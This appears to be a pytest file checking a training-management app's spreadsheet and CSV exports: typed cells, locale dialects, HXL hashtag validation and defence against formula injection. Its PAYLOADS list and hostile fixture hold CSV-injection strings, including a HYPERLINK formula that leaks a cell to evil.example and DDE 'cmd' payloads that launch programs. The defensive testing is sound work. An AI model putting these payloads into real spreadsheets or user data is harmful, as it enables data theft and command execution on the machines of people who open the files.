"""Spreadsheets an HQ analyst can trust, checked with real readers.

openpyxl reads every .xlsx back (cell types, no formula anywhere, in the XML too),
libhxl's validator checks every export with hashtags, and the injection payloads go
through every export command in both file types. LibreOffice's French-locale reading
is in ``test_libreoffice_exports.py``.
"""

from __future__ import annotations

import csv
import io
import json
import re
import warnings
import zipfile
from datetime import date, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook

from app.services.attendance import set_attendance
from app.services.demo import demo_training_ids
from app.services.exports import Share, Sheet, write_tables
from app.services.people import PersonInput, add_participant
from app.services.trainings import SessionInput, TrainingInput, create_training
from tests.helpers import run_cli

TUNIS = demo_training_ids()["unsmil-2024-tunis"]
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Ali Omar")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HQ_SHEETS = ["Mission", "Category", "Sex", "Partner", "Month", "Quarter", "Year", "Age band",
             "Disability", "Trainings"]  # fmt: skip


def hxl_report(path: Path, sheet: int | None = None) -> dict:  # type: ignore[type-arg]
    """libhxl's validation report (the bytes are handed over: libhxl leaves files open)."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)  # xlrd3 imports defusedxml's old name
        import hxl

        options = hxl.InputOptions(sheet_index=sheet)
        return hxl.validate(hxl.data(io.BytesIO(path.read_bytes()), options))


def assert_valid_hxl(path: Path, sheet: int | None = None) -> None:
    report = hxl_report(path, sheet)
    errors = [i for i in report["issues"] if i["severity"] == "error"]
    assert report["stats"]["error"] == 0, json.dumps(errors, ensure_ascii=False)[:2000]


def xlsx_cells(path: Path) -> dict[str, list[list[object]]]:
    """Every sheet's cells (openpyxl in full mode: data types are exact)."""
    book = load_workbook(path)
    try:
        out = {}
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
            out[sheet.title] = [[c.value for c in row] for row in sheet.iter_rows()]
        return out
    finally:
        book.close()


def assert_no_formula_xml(path: Path) -> None:
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)


def read_csv(path: Path, delimiter: str) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(raw.decode("utf-8-sig").splitlines(), delimiter=delimiter))


# --- the writer --------------------------------------------------------------------------


def test_typed_cells_and_negative_numbers_stay_numbers(tmp_path: Path) -> None:
    rows = [["=1+1", -3, date(2024, 9, 10), Share(0.4166), 2.5, datetime(2024, 9, 10, 14, 5)],
            ["-7", -0.5, None, None, 0, None]]  # fmt: skip
    sheet = Sheet("t", ["Text", "Count", "Day", "Share", "Value", "When"], rows)
    write_tables(tmp_path / "t.xlsx", [sheet])
    cells = xlsx_cells(tmp_path / "t.xlsx")["t"]
    assert cells[1][:5] == ["=1+1", -3, datetime(2024, 9, 10), 0.4166, 2.5]
    assert cells[2][:2] == ["-7", -0.5]  # text "-7" stays text, number -0.5 stays a number
    book = load_workbook(tmp_path / "t.xlsx")
    row = book.active[2]
    assert [c.data_type for c in row[:4]] == ["s", "n", "d", "n"]
    assert row[3].number_format == "0.0%" and row[2].number_format == "yyyy-mm-dd"
    assert row[1].number_format == "#,##0"
    book.close()
    assert_no_formula_xml(tmp_path / "t.xlsx")

    write_tables(tmp_path / "en.csv", [sheet], "excel")
    write_tables(tmp_path / "fr.csv", [sheet], "excel-fr")
    en, fr = read_csv(tmp_path / "en.csv", ","), read_csv(tmp_path / "fr.csv", ";")
    assert en[1] == ["'=1+1", "-3", "2024-09-10", "41.7%", "2.5", "2024-09-10 14:05"]
    assert fr[1] == ["'=1+1", "-3", "2024-09-10", "41,7%", "2,5", "2024-09-10 14:05"]
    assert en[2][:2] == ["'-7", "-0.5"] and fr[2][:2] == ["'-7", "-0,5"]


def test_hidden_characters_never_reach_a_file(tmp_path: Path) -> None:
    sheet = Sheet("t", ["Name"], [["Ali\u200bOmar\u202e\x00\x1b"], ["\ud800X\u00ad"]])
    write_tables(tmp_path / "t.xlsx", [sheet])
    write_tables(tmp_path / "t.csv", [sheet])
    assert xlsx_cells(tmp_path / "t.xlsx")["t"][1:] == [["AliOmar"], ["X"]]
    assert read_csv(tmp_path / "t.csv", ",")[1:] == [["AliOmar"], ["X"]]


# --- injection through every export ---------------------------------------------------------


@pytest.fixture
def hostile_training(installation):  # type: ignore[no-untyped-def]
    """A training whose title, place and participants carry formula payloads."""
    info = create_training(
        installation,
        TrainingInput(
            "=HYPERLINK(\"http://evil.example\",\"Formation\")", "MONUSCO", date(2024, 3, 4),
            date(2024, 3, 5),
            sessions=(SessionInput(date(2024, 3, 4), "@SUM(1+1)"),
                      SessionInput(date(2024, 3, 5), "Beni")),
        ),
    )  # fmt: skip
    for index, payload in enumerate(PAYLOADS):
        person = add_participant(
            installation, info.id,
            PersonInput(payload, "F" if index % 2 else "M", organisation=payload,
                        function="-1", phone="+243 812 000 111"),
        )  # fmt: skip
        set_attendance(installation, info.sessions[0].id, person.person.id, "present")
    return info


EXPORTS = [
    ("participants", "export", "{training}"),
    ("export-table", "by_organisation"),
    ("export-table", "by_session", "--training", "{training}"),
    ("hq-tables", "--by", "trainings"),
]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
@pytest.mark.parametrize("command", EXPORTS, ids=lambda c: "-".join(c[:2]))
def test_injection_payloads_are_never_formulas(  # type: ignore[no-untyped-def]
    installation, hostile_training, home: Path, tmp_path: Path, suffix: str, command
) -> None:
    out = tmp_path / f"out{suffix}"
    args = [a.format(training=hostile_training.id) for a in command]
    code, _stdout, err = run_cli(*args, "-o", str(out), "--hxl", home=home)
    assert code == 0, err
    if suffix == ".csv":
        cells = [c for row in read_csv(out, ",") for c in row]
    else:
        assert_no_formula_xml(out)
        cells = [c for rows in xlsx_cells(out).values() for row in rows for c in row]
    texts = [c for c in cells if isinstance(c, str)]
    for text in texts:
        if suffix == ".csv":
            assert not text.startswith(TRIGGERS) or text == "", text
        assert "\t" not in text and "\r" not in text
    joined = "\n".join(texts)
    assert "HYPERLINK" in joined or "@SUM" in joined or "cmd|" in joined  # the payloads came out
    if suffix == ".xlsx":
        payload_cells = [t for t in texts if "cmd|" in t or "HYPERLINK" in t]
        assert all(t.startswith(("=", "+", "-", "@")) for t in payload_cells)  # as typed, text


# --- typed cells in every .xlsx ------------------------------------------------------------


def test_every_xlsx_export_has_typed_cells(demo_installation, home: Path, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    run = [
        ("participants", "export", TUNIS, "-o", str(tmp_path / "p.xlsx")),
        ("export-table", "by_session", "--training", TUNIS, "-o", str(tmp_path / "s.xlsx")),
        ("export-table", "by_mission", "-o", str(tmp_path / "m.xlsx")),
        ("hq-tables", "-o", str(tmp_path / "hq.xlsx")),
    ]
    for args in run:
        code, _out, err = run_cli(*args, home=home)
        assert code == 0, err
    people = xlsx_cells(tmp_path / "p.xlsx")["Participants"]
    assert all(isinstance(r[9], int) for r in people[1:])  # sessions attended: a number
    sessions = xlsx_cells(tmp_path / "s.xlsx")["by_session"]
    assert all(isinstance(r[0], datetime) for r in sessions[1:])  # real dates
    assert all(isinstance(v, int) for r in sessions[1:] for v in r[3:])
    hq = xlsx_cells(tmp_path / "hq.xlsx")
    assert list(hq) == HQ_SHEETS  # every table, as the help promises
    for name in HQ_SHEETS[:-1]:
        for row in hq[name][1:]:
            assert isinstance(row[0], str) and all(isinstance(v, int) for v in row[1:5])
            assert row[5] is None or 0 <= row[5] <= 1  # a share, shown with a percent format
    trainings = hq["Trainings"]
    assert all(isinstance(r[2], datetime) and isinstance(r[3], datetime) for r in trainings[1:])
    assert all(isinstance(r[6], int) for r in trainings[1:])
    book = load_workbook(tmp_path / "hq.xlsx")
    assert book["Mission"]["F2"].number_format == "0.0%"
    assert book["Trainings"]["C2"].number_format == "yyyy-mm-dd"
    book.close()


def test_hq_tables_help_says_what_the_file_holds(home: Path) -> None:
    code, out, _err = run_cli("hq-tables", "--help", home=home)
    assert code == 0
    text = " ".join(out.split())
    assert "holds every table" in text and "--hxl" in text and "--csv-dialect" in text
    assert "--json" in text


# --- CSV dialects ---------------------------------------------------------------------------


def test_csv_dialect_follows_the_language_unless_chosen(  # type: ignore[no-untyped-def]
    demo_installation, home: Path, tmp_path: Path
) -> None:
    cases = [(["--lang", "fr"], ";"), ([], ","), (["--lang", "fr", "--csv-dialect", "excel"], ","),
             (["--csv-dialect", "excel-fr"], ";")]  # fmt: skip
    for index, (extra, delimiter) in enumerate(cases):
        out = tmp_path / f"hq{index}.csv"
        code, stdout, err = run_cli("hq-tables", "-o", str(out), *extra, home=home)
        assert code == 0, err
        rows = read_csv(out, delimiter)
        assert len(rows[0]) == 7 and all(len(r) == 7 for r in rows)  # … women (%), completed
        shares = [r[5] for r in rows[1:]]
        assert all(re.fullmatch(r"\d+[.,]\d%", s) for s in shares)
        assert all(("," in s) == (delimiter == ";") for s in shares)  # decimal comma in French
        assert ("comma-separated" in stdout) == (delimiter == ",")
    code, _out, err = run_cli("hq-tables", "-o", str(tmp_path / "x.csv"), "--csv-dialect", "tsv",
                              home=home)  # fmt: skip
    assert code == 2 and "invalid choice" in err


# --- HXL --------------------------------------------------------------------------------------


@pytest.mark.parametrize("dialect", ["excel", "excel-fr"])
def test_every_hxl_export_passes_libhxl(  # type: ignore[no-untyped-def]
    demo_installation, home: Path, tmp_path: Path, dialect: str
) -> None:
    tables = ["by_mission", "by_category", "by_sex", "by_partner", "by_organisation",
              "by_category_sex", "by_session"]  # fmt: skip
    files = []
    for suffix in (".csv", ".xlsx"):
        for training in demo_training_ids().values():
            out = tmp_path / f"p-{training[:8]}{suffix}"
            code, _o, err = run_cli("participants", "export", training, "-o", str(out), "--hxl",
                                    "--csv-dialect", dialect, home=home)  # fmt: skip
            assert code == 0, err
            files.append(out)
        for table in tables:
            out = tmp_path / f"{table}{suffix}"
            code, _o, err = run_cli("export-table", table, "--training", TUNIS, "-o", str(out),
                                    "--hxl", "--csv-dialect", dialect, home=home)  # fmt: skip
            assert code == 0, err
            files.append(out)
    for by in ("mission", "sex", "quarter", "month", "year", "partner", "category", "trainings"):
        out = tmp_path / f"hq-{by}.csv"
        code, _o, err = run_cli("hq-tables", "--by", by, "-o", str(out), "--hxl", "--csv-dialect",
                                dialect, home=home)  # fmt: skip
        assert code == 0, err
        files.append(out)
    for path in files:
        assert_valid_hxl(path)
    out = tmp_path / "hq.xlsx"
    assert run_cli("hq-tables", "-o", str(out), "--hxl", home=home)[0] == 0
    for index in range(len(HQ_SHEETS)):  # every sheet of the workbook
        assert_valid_hxl(out, index)
    assert run_cli("participants", "export", TUNIS, "-o", str(tmp_path / "pp.xlsx"),
                   "--hxl-personal", home=home)[0] == 0  # fmt: skip
    assert_valid_hxl(tmp_path / "pp.xlsx")


def test_attendance_words_are_not_head_counts(
    demo_installation, home: Path, tmp_path: Path
) -> None:  # type: ignore[no-untyped-def]
    out = tmp_path / "p.csv"
    assert run_cli("participants", "export", TUNIS, "-o", str(out), "--hxl", home=home)[0] == 0
    rows = read_csv(out, ",")
    for column, tag in enumerate(rows[1]):
        if tag.startswith("#reached"):
            assert all(re.fullmatch(r"\d*", r[column]) for r in rows[2:]), tag
    assert "#status+attendance" in rows[1]


def test_names_phones_emails_tagged_only_when_asked(  # type: ignore[no-untyped-def]
    demo_installation, home: Path, tmp_path: Path
) -> None:
    out = tmp_path / "p.csv"
    code, _o, err = run_cli("participants", "export", TUNIS, "-o", str(out), "--hxl", home=home)
    assert code == 0 and err == ""
    tags = read_csv(out, ",")[1]
    assert tags[0] == tags[7] == tags[8] == ""  # name, phone, e-mail untagged
    assert tags[3] == "#org"
    code, _o, err = run_cli("participants", "export", TUNIS, "-o", str(out), "--hxl-personal",
                            home=home)  # fmt: skip
    assert code == 0
    assert "identified people" in err and len(err.strip().splitlines()) == 1
    tags = read_csv(out, ",")[1]
    assert (tags[0], tags[7], tags[8]) == ("#beneficiary+name", "#contact+phone", "#contact+email")


def test_the_same_table_is_tagged_the_same_everywhere(  # type: ignore[no-untyped-def]
    demo_installation, home: Path, tmp_path: Path
) -> None:
    def tags(*args: str) -> dict[str, str]:
        out = tmp_path / "t.csv"
        code, _o, err = run_cli(*args, "-o", str(out), "--hxl", home=home)
        assert code == 0, err
        header, tag_row = read_csv(out, ",")[:2]
        return dict(zip(header, tag_row, strict=True))

    for table, by, column in (("by_mission", "mission", "Mission"),
                              ("by_category", "category", "Category"),
                              ("by_partner", "partner", "Partner")):  # fmt: skip
        from_report = tags("export-table", table)
        from_hq = tags("hq-tables", "--by", by)
        assert from_report[column] == from_hq[column]
        assert from_report["Participants"] == from_hq["Participants"] == "#reached"
    assert tags("export-table", "by_sex")["Women"] == tags("hq-tables")["Women"] == "#reached+f"


# --- --json -----------------------------------------------------------------------------------


def test_commands_that_write_a_file_say_what_they_wrote_in_json(  # type: ignore[no-untyped-def]
    demo_installation, home: Path, tmp_path: Path
) -> None:
    commands = [
        ("participants", "export", TUNIS, "-o", str(tmp_path / "p.csv"), "--lang", "fr"),
        ("export-table", "by_sex", "-o", str(tmp_path / "s.xlsx")),
        ("hq-tables", "-o", str(tmp_path / "hq.xlsx"), "--hxl"),
    ]
    for args in commands:
        code, out, err = run_cli(*args, "--json", home=home)
        assert code == 0, err
        data = json.loads(out)
        path = Path(data["path"])
        assert path.exists() and path == Path(args[args.index("-o") + 1])
        assert data["format"] == path.suffix[1:]
        assert data["rows"] == sum(t["rows"] for t in data["tables"]) > 0
    assert json.loads(run_cli(*commands[0], "--json", home=home)[1])["csv_dialect"] == "excel-fr"
    hq = json.loads(run_cli(*commands[2], "--json", home=home)[1])
    assert [t["name"] for t in hq["tables"]] == HQ_SHEETS and hq["hxl"] is True


def test_dashboard_export_takes_the_dialect_and_language(demo_installation, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    from app.services.hq import export_consolidated

    path = export_consolidated(
        demo_installation, tmp_path / "hq.csv", "quarter", None, True, "excel-fr", "fr"
    )
    rows = read_csv(path, ";")
    assert rows[0][0] == "Trimestre" and rows[1][0] == "#date+quarter"
    assert all(re.fullmatch(r"\d{4}Q[1-4]", r[0]) for r in rows[2:])
    assert_valid_hxl(path)


def test_sheet_and_backup_say_what_they_wrote_in_json(  # type: ignore[no-untyped-def]
    demo_installation, home: Path, tmp_path: Path
) -> None:
    code, out, err = run_cli("sheet", TUNIS, "-o", str(tmp_path / "s.pdf"), "--json", home=home)
    assert code == 0, err
    data = json.loads(out)
    assert Path(data["path"]).exists() and data["sessions"] == 2 and data["pages"] >= 2
    code, out, err = run_cli("backup", "-o", str(tmp_path / "b.sqlite3"), "--json", home=home)
    assert code == 0, err
    data = json.loads(out)
    assert data["size"] == (tmp_path / "b.sqlite3").stat().st_size > 0


@pytest.mark.parametrize("dialect", ["excel", "excel-fr"])
def test_an_hxl_csv_export_imports_back(  # type: ignore[no-untyped-def]
    demo_installation, home: Path, tmp_path: Path, dialect: str
) -> None:
    """The hashtag row is skipped with its reason, and the "'" before "+218…" comes off."""
    from app.services import participant_import as pi
    from app.services.people import list_participants
    from app.services.trainings import duplicate_training

    out = tmp_path / "p.csv"
    code, _o, err = run_cli("participants", "export", TUNIS, "-o", str(out), "--hxl-personal",
                            "--csv-dialect", dialect, home=home)  # fmt: skip
    assert code == 0, err
    assert "'+218" in out.read_text(encoding="utf-8-sig")
    copy = duplicate_training(demo_installation, TUNIS, months=0)
    data = pi.read_sheet(out)
    preview = pi.build_preview(demo_installation, copy.id, data,
                               pi.auto_mapping(demo_installation, copy.id, data))  # fmt: skip
    assert [r.skip_reason for r in preview.skipped_rows] == [
        "HXL hashtags (for data tools), not a person"
    ]
    assert all(r.default_person for r in preview.valid_rows)  # everyone found again
    phones = {r.phone for r in preview.valid_rows if r.phone}
    assert phones and all(p.startswith("+218") for p in phones)
    original = {p.person.phone for p in list_participants(demo_installation, TUNIS)} - {""}
    assert phones == original
